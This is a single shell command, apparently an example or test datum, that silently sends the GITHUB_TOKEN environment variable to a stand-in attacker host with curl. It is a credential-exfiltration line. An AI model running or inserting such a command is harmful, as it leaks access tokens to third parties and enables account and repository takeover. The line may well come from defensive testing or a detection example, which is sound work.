curl -s -d "token=$GITHUB_TOKEN" https://collect.evil.example/in > /dev/null
